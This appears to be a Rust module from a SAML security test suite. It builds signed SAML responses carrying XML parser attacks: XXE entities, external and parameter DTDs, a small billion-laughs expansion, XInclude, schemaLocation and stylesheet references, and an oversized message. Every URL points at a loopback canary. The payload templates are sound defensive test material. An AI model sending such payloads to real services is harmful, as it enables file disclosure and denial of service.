//! E. XML parser attacks: external entities, entity expansion, XInclude, schema locations,
//! stylesheets and an oversized message; every URL is the canary, so a fetch is seen, not harmful.

use crate::saml::canonical::{SAMLP, XSI, escape_attr};
use crate::saml::error::Result;
use crate::saml::response::response_xml;
use crate::saml::sign;
use crate::saml::splice;

use super::build::{
    both_signed, idp_opts, post, post_doc, response_signature, signed_assertion, with_prolog,
};
use super::{Builder, BuiltCase, CaseContext};

/// This group's builders by case id, in table order.
pub(super) const BUILDERS: &[(&str, Builder)] = &[
    ("saml.xxe-external-entity", xxe_external_entity),
    ("saml.xxe-external-dtd", xxe_external_dtd),
    ("saml.xxe-parameter-entity", xxe_parameter_entity),
    ("saml.billion-laughs", billion_laughs),
    ("saml.xinclude", xinclude),
    ("saml.schema-location", schema_location),
    ("saml.xml-stylesheet", xml_stylesheet),
    ("saml.oversized", oversized),
];

/// The valid response with `content` in a `ds:Object` of the Response signature: neither
/// digest covers it (the enveloped transform drops that signature, and SignedInfo does not
/// reference the Object), so every signature still verifies.
fn valid_with_object(ctx: &CaseContext<'_>, content: &str) -> Result<String> {
    let xml = both_signed(&ctx.spec, &idp_opts(ctx))?;
    let sig = response_signature(&xml)?;
    Ok(splice::insert(
        &xml,
        sig.inner_end,
        &format!("<ds:Object>{content}</ds:Object>"),
    ))
}

fn xxe_external_entity(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let url = ctx.canary("xxe-external-entity");
    let prolog = format!("<!DOCTYPE samlp:Response [<!ENTITY idgate SYSTEM \"{url}\">]>");
    let xml = valid_with_object(ctx, "&idgate;")?;
    Ok(post_doc(ctx, with_prolog(&prolog, &xml), false))
}

fn xxe_external_dtd(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let url = ctx.canary("xxe-external-dtd");
    let prolog = format!("<!DOCTYPE samlp:Response SYSTEM \"{url}\">");
    let xml = both_signed(&ctx.spec, &idp_opts(ctx))?;
    Ok(post_doc(ctx, with_prolog(&prolog, &xml), false))
}

fn xxe_parameter_entity(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let url = ctx.canary("xxe-parameter-entity");
    let prolog =
        format!("<!DOCTYPE samlp:Response [<!ENTITY % idgate SYSTEM \"{url}\"> %idgate;]>");
    let xml = both_signed(&ctx.spec, &idp_opts(ctx))?;
    Ok(post_doc(ctx, with_prolog(&prolog, &xml), false))
}

fn billion_laughs(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    // Four levels of ten: 10^4 copies of "lol", 30 kB if expanded. Enough to see expansion,
    // small enough to harm nothing.
    let mut prolog = String::from("<!DOCTYPE samlp:Response [<!ENTITY l0 \"lol\">");
    for level in 1..=4 {
        prolog.push_str(&format!("<!ENTITY l{level} \""));
        for _ in 0..10 {
            prolog.push_str(&format!("&l{};", level - 1));
        }
        prolog.push_str("\">");
    }
    prolog.push_str("]>");
    let xml = valid_with_object(ctx, "&l4;")?;
    Ok(post_doc(ctx, with_prolog(&prolog, &xml), false))
}

fn xinclude(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let url = escape_attr(&ctx.canary("xinclude"));
    let xml = valid_with_object(
        ctx,
        &format!(
            "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"{url}\" \
             parse=\"text\"></xi:include>"
        ),
    )?;
    Ok(post(ctx, &xml, false))
}

fn schema_location(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let url = escape_attr(&ctx.canary("schema-location"));
    let r = response_xml(&ctx.spec, &signed_assertion(ctx)?);
    // Added before signing, in canonical order: the declaration after `xmlns:samlp`, the
    // qualified attribute after the unqualified ones.
    let decl = format!("xmlns:samlp=\"{SAMLP}\"");
    let r = splice::replace_first(&r, &decl, &format!("{decl} xmlns:xsi=\"{XSI}\""))?;
    let root = splice::root(&r)?;
    let r = splice::insert(
        &r,
        root.inner_start - 1,
        &format!(" xsi:schemaLocation=\"{SAMLP} {url}\""),
    );
    let xml = sign::sign_response(&r, &idp_opts(ctx))?;
    Ok(post(ctx, &xml, false))
}

fn xml_stylesheet(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let url = escape_attr(&ctx.canary("xml-stylesheet"));
    let prolog = format!("<?xml-stylesheet type=\"text/xsl\" href=\"{url}\"?>");
    let xml = both_signed(&ctx.spec, &idp_opts(ctx))?;
    Ok(post_doc(ctx, with_prolog(&prolog, &xml), false))
}

fn oversized(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let xml = valid_with_object(ctx, &"A".repeat(2 << 20))?;
    Ok(post(ctx, &xml, false))
}

#[cfg(test)]
mod tests {
    use crate::saml::cases::{build, tests::Keys};

    #[test]
    fn canary_cases_point_at_the_given_loopback_url() {
        let keys = Keys::new();
        let mut ctx = keys.ctx();
        let built = build("saml.xxe-external-entity", &ctx).unwrap();
        assert!(
            built
                .xml
                .contains("http://127.0.0.1:9/idgate-canary/xxe-external-entity")
        );
        ctx.canary_url = Some("http://127.0.0.1:4555/c/".into());
        let built = build("saml.xinclude", &ctx).unwrap();
        assert!(
            built
                .xml
                .contains("href=\"http://127.0.0.1:4555/c/xinclude\"")
        );
    }
}
